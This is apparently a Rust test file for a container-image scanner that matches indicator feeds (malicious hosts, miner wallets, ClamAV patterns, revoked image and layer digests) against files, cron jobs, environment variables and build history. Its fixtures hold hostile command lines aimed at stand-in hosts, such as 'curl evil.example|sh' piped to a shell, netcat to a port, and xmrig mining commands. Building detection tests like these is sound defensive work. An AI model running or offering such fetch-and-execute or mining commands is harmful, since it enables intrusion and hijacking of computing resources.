use super::*;
use crate::analyzers::fixture::Fixture;
use feeds::{Indicators, Kind, Options};
use model::Digest;
use proptest::prelude::*;

fn feed(kind: feeds::Kind, text: &str, severity: Severity) -> Indicators {
    let options = Options { severity, ..Options::named("list").of_kind(kind) };
    Indicators::new(vec![feeds::import(text.as_bytes(), &options).unwrap().0])
}

fn listing(kind: Kind, text: &str) -> Fixture {
    let mut image = Fixture::new();
    image.indicators = feed(kind, text, Severity::Critical);
    image
}

/// What is found, as (id, role, path, reachable).
fn found(image: &Fixture) -> Vec<(String, Role, String, Option<bool>)> {
    let found = image.run(&Listed);
    let told =
        |finding: Finding| (finding.id, finding.role, finding.path.unwrap_or_default(), finding.reachable);
    found.findings.into_iter().map(told).collect()
}

fn check(image: &Fixture, expect: &[(&str, Role, &str)]) {
    let found = found(image);
    let found: Vec<_> = found.iter().map(|(id, role, path, _)| (id.as_str(), *role, path.as_str())).collect();
    assert_eq!(found, expect);
}

fn check_mentions(text: &str, code: bool, network: &[&str], wallets: &[&str]) {
    let mentions = parse::mentions(text.as_bytes(), code);
    assert_eq!(mentions.network.lines().collect::<Vec<_>>(), network, "{text}");
    assert_eq!(mentions.wallets.lines().collect::<Vec<_>>(), wallets, "{text}");
    assert!(!mentions.cut);
}

#[test]
fn texts_name_hosts_addresses_urls_and_wallets() {
    check_mentions("curl -s http://evil.example/x.sh?a=b|sh", false, &["http://evil.example/x.sh?a=b"], &[]);
    check_mentions("(see https://evil.example/x).", false, &["https://evil.example/x"], &[]);
    check_mentions("stratum+tcp://pool.example:3333 -u x", false, &["tcp://pool.example:3333"], &[]);
    check_mentions("xmrig -o pool.example:3333", false, &["pool.example:3333"], &[]);
    check_mentions("nc 192.0.2.1 4444; ping 192.0.2.2:80/x", false, &["192.0.2.1", "192.0.2.2:80/x"], &[]);
    check_mentions("HOST=evil.example", false, &["evil.example"], &[]);
    check_mentions("wget evil.example/a.sh", true, &["evil.example/a.sh"], &[]);
    check_mentions("host = 'evil.example'; self.value.upper()", true, &["evil.example"], &[]);
    check_mentions("x = self.value; y = os.path", true, &[], &[]);
    check_mentions("ssh root@evil.example", true, &["evil.example"], &[]);
    check_mentions("http://b\u{fc}cher.example/x", false, &["http://b\u{fc}cher.example/x"], &[]);
    check_mentions("1.2.3 v1.2.3.4.5 1.2 .. ... a..b -.-", false, &[], &[]);
    check_mentions("evil.example evil.example", false, &["evil.example"], &[]);
    let wallet = format!("4{}", "A".repeat(94));
    check_mentions(&format!("-u {wallet} x"), false, &[], &[&wallet]);
    check_mentions(&format!("-u {wallet}0 x"), false, &[], &[]);
    check_mentions(&format!("bc1{}", "q".repeat(39)), false, &[], &[&format!("bc1{}", "q".repeat(39))]);
    check_mentions(
        "curl https://mirror.example/http://evil.example/x",
        false,
        &["https://mirror.example/http://evil.example/x", "http://evil.example/x"],
        &[],
    );
    check_mentions("://", false, &[], &[]);
    check_mentions("http://", false, &[], &[]);
    check_mentions("", false, &[], &[]);
}

#[test]
fn hostile_texts_are_bounded() {
    let check = |text: Vec<u8>, cut: bool| {
        let mentions = parse::mentions(&text, false);
        assert_eq!(mentions.cut, cut);
        assert!(mentions.network.len() + mentions.wallets.len() <= 128 << 10);
    };
    check(vec![b'a'; 10 << 20], false);
    check(vec![b'.'; 10 << 20], false);
    check(b"a.".repeat(5 << 20), false);
    check(b"http://".repeat(1 << 20), false);
    check(b"http://a/".repeat(1 << 20), false);
    check([b"http://".to_vec(), vec![b'a'; 10 << 20]].concat(), false);
    check((0..5000).flat_map(|number| format!("h{number}.example\n").into_bytes()).collect(), true);
    check(
        (0..100)
            .flat_map(|number| format!("http://h{number}.example/{}\n", "x".repeat(1900)).into_bytes())
            .collect(),
        true,
    );
}

proptest! {
    #[test]
    fn no_text_panics(text: Vec<u8>, words in "[a-z0-9.:/@'\u{e9} -]{0,200}", code: bool) {
        parse::mentions(&text, code);
        parse::mentions(words.as_bytes(), code);
    }
}

const LIST: &str = "evil.example miner pool\n192.0.2.1:3333\n198.51.100.7\nhttp://files.invalid/a/x.sh\n";

#[test]
fn a_listed_host_in_a_script_corroborates() {
    for line in [
        "wget -q http://eu.evil.example/x",
        "xmrig -o 192.0.2.1:3333",
        "nc 198.51.100.7 1",
        "curl http://files.invalid/a/x.sh|sh",
    ] {
        let mut image = listing(Kind::Network, LIST);
        image.file("opt/run.sh", 0o755, format!("#!/bin/sh\n{line}\n").as_bytes());
        check(&image, &[("S-IOC-NET", Role::Corroborates, "/opt/run.sh")]);
    }
    for line in [
        "wget http://notevil.example/x",
        "x 192.0.2.1:3334",
        "curl http://files.invalid/a/y.sh",
        "curl http://other.invalid/a/x.sh",
    ] {
        let mut image = listing(Kind::Network, LIST);
        image.file("opt/run.sh", 0o755, format!("#!/bin/sh\n{line}\n").as_bytes());
        check(&image, &[]);
    }
    let mut image = listing(Kind::Network, LIST);
    image.file("etc/cron.d/job", 0o644, b"* * * * * root curl evil.example|sh\n");
    check(&image, &[("S-IOC-NET", Role::Corroborates, "/etc/cron.d/job")]);
    let mut image = Fixture::new();
    image.file("opt/run.sh", 0o755, b"#!/bin/sh\ncurl evil.example/x\n");
    check(&image, &[]);
}

#[test]
fn a_listed_wallet_corroborates() {
    let wallet = format!("4{}", "B".repeat(94));
    let event = format!(
        r#"{{"Event":{{"info":"i","Attribute":[{{"type":"xmr","value":"{wallet}","to_ids":true}}]}}}}"#
    );
    let mut image = listing(Kind::Misp, &event);
    image.file("opt/run.sh", 0o755, format!("#!/bin/sh\nxmrig -u {wallet}\n").as_bytes());
    check(&image, &[("S-IOC-NET", Role::Corroborates, "/opt/run.sh")]);
}

#[test]
fn block_lists_and_documentation_only_explain() {
    let names: Vec<String> = (0..26).map(|number| format!("h{number}.example")).collect();
    let list = names.join("\n");
    let hosts: String = names.iter().map(|name| format!("0.0.0.0 {name}\n")).collect();
    let mut image = listing(Kind::Network, &list);
    image.file("etc/pihole/gravity.list", 0o644, hosts.as_bytes());
    check(&image, &[("S-IOC-NET", Role::Context, "/etc/pihole/gravity.list")]);
    let few: String = hosts.lines().take(25).map(|line| format!("{line}\n")).collect();
    let mut image = listing(Kind::Network, &list);
    image.file("etc/hosts.few", 0o644, few.as_bytes());
    check(&image, &[("S-IOC-NET", Role::Corroborates, "/etc/hosts.few")]);
    for path in ["usr/share/doc/x/notes", "app/README.md", "srv/tests/pool.sh", "usr/share/misc/words"] {
        let mut image = listing(Kind::Network, LIST);
        image.file(path, 0o644, b"see http://evil.example/x\n");
        check(&image, &[("S-IOC-NET", Role::Context, &format!("/{path}"))]);
    }
}

#[test]
fn what_the_start_reaches_is_no_list() {
    let names: Vec<String> = (0..40).map(|number| format!("h{number}.example")).collect();
    let script = format!("#!/bin/sh\nfor h in {}; do curl $h; done\n", names.join(" "));
    let mut image = listing(Kind::Network, &names.join("\n"));
    image.file("srv/tests/run.sh", 0o755, script.as_bytes()).start(&["/srv/tests/run.sh"], &[]);
    let found = found(&image);
    assert_eq!(found.len(), 1);
    assert_eq!((found[0].1, found[0].3), (Role::Corroborates, Some(true)));
}

#[test]
fn no_crowd_of_documents_hides_a_script() {
    let mut image = listing(Kind::Network, LIST);
    for number in 0..600 {
        image.file(&format!("usr/share/doc/{number}"), 0o644, b"see http://evil.example/x\n");
    }
    image.file("zz/run.sh", 0o755, b"#!/bin/sh\ncurl evil.example/x\n");
    let found = found(&image);
    assert_eq!(found.len(), 257);
    assert_eq!(found.iter().filter(|finding| finding.1 == Role::Corroborates).count(), 1);
}

#[test]
fn a_removed_script_only_explains() {
    let mut image = listing(Kind::Network, LIST);
    image.file("opt/run.sh", 0o755, b"#!/bin/sh\ncurl evil.example/x\n").layer().file(
        "opt/.wh.run.sh",
        0o644,
        b"",
    );
    let found = image.run(&Listed).findings;
    let [finding] = found.as_slice() else { panic!("{found:?}") };
    assert!(finding.role == Role::Context && finding.is_residue());
}

#[test]
fn the_configuration_is_read_too() {
    let mut image = listing(Kind::Network, LIST);
    image.start(&["xmrig", "-o", "evil.example:3333"], &[]);
    check(&image, &[("S-IOC-NET", Role::Corroborates, "")]);
    let mut image = listing(Kind::Network, LIST);
    image.env("POOL=evil.example");
    check(&image, &[("S-IOC-NET", Role::Corroborates, "")]);
    let mut image = listing(Kind::Network, LIST);
    let created_by = "RUN curl http://evil.example/x".to_owned();
    image.config.history.push(model::History { created_by, ..Default::default() });
    check(&image, &[("S-IOC-NET", Role::Context, "")]);
}

#[test]
fn a_script_beyond_the_bound_is_a_gap_where_it_counts() {
    let many: String = (0..5000).map(|number| format!("ping h{number}.example\n")).collect();
    let mut image = listing(Kind::Network, LIST);
    image.file("opt/run.sh", 0o755, format!("#!/bin/sh\n{many}").as_bytes());
    assert_eq!(image.run(&Listed).gaps.len(), 1);
    let mut image = listing(Kind::Network, LIST);
    image.file("usr/share/list", 0o644, many.as_bytes());
    assert_eq!(image.run(&Listed).gaps, []);
    let mut image = Fixture::new();
    image.file("opt/run.sh", 0o755, format!("#!/bin/sh\n{many}").as_bytes());
    assert_eq!(image.run(&Listed).gaps, [], "without feeds nothing was to be compared");
}

const NDB: &str =
    "Unix.Test.A-1:6:*:7374616e642d696e??7061796c6f6164\nUnix.Test.B-1:0:*:6f746865722d7374616e642d696e\n";

#[test]
fn listed_patterns_corroborate_in_programs_and_scripts() {
    let mut image = listing(Kind::ClamavPatterns, NDB);
    image
        .file("usr/bin/a", 0o755, b"\x7fELF....stand-in payload")
        .file("usr/bin/b", 0o755, b"stand-in payload, no ELF")
        .file("opt/c.sh", 0o755, b"#!/bin/sh\nother-stand-in\n")
        .file("usr/share/rules", 0o644, b"rule: other-stand-in");
    check(
        &image,
        &[
            ("S-IOC-PATTERN", Role::Corroborates, "/usr/bin/a"),
            ("S-IOC-PATTERN", Role::Corroborates, "/opt/c.sh"),
            ("S-IOC-PATTERN", Role::Context, "/usr/share/rules"),
        ],
    );
    let finding = &image.run(&Listed).findings[0];
    assert_eq!(finding.evidence[0].value, "Unix.Test.A-1 (list)");
    assert_eq!(finding.evidence[0].offset, Some(8));
}

#[test]
fn revoked_images_and_bad_layers_convict() {
    let digest = |byte: u8| Digest::sha256([byte; 32]);
    let mut image = listing(Kind::Images, &format!("{} campaign\n", digest(7)));
    image.digests = vec![digest(6), digest(7)];
    check(&image, &[("S-META-REVOKED", Role::Convicts, "")]);
    image.digests = vec![digest(6)];
    check(&image, &[]);
    // The fixture's second layer has a digest of ones.
    let mut image = listing(Kind::Layers, &format!("{}\n", digest(1)));
    image.file("a", 0o644, b"").layer().file("b", 0o644, b"");
    check(&image, &[("S-META-BADLAYER", Role::Convicts, "")]);
    let layer = image.run(&Listed).findings.remove(0).layer;
    assert_eq!(layer.map(|layer| layer.index), Some(1));
    image.digests = vec![digest(1)];
    check(&image, &[("S-META-BADLAYER", Role::Convicts, "")]);
}

#[test]
fn the_empty_layer_convicts_nobody() {
    let empty = "sha256:4f4fb700ef54461cfa02571ae0db9a0dc1e0cdb5577484a6d75e68dc38e8acc1";
    let options = Options::named("list").of_kind(Kind::Layers);
    let (feed, imported) = feeds::import(empty.as_bytes(), &options).unwrap();
    assert_eq!((imported.accepted, imported.rejects()), (0, 1));
    assert!(Indicators::new(vec![feed]).find_layer(&empty.parse().unwrap()).is_none());
}

#[test]
fn a_feed_below_critical_does_not_convict() {
    let digest = Digest::sha256([7; 32]);
    let mut image = Fixture::new();
    image.indicators = feed(Kind::Images, &digest.to_string(), Severity::Medium);
    image.digests = vec![digest];
    let found = image.run(&Listed).findings;
    assert_eq!((found[0].role, found[0].severity), (Role::Corroborates, Severity::Medium));
    let mut image = Fixture::new();
    image.indicators = feed(Kind::Network, LIST, Severity::Low);
    image.file("opt/run.sh", 0o755, b"#!/bin/sh\ncurl evil.example/x\n");
    assert_eq!(image.run(&Listed).findings[0].severity, Severity::Low);
}
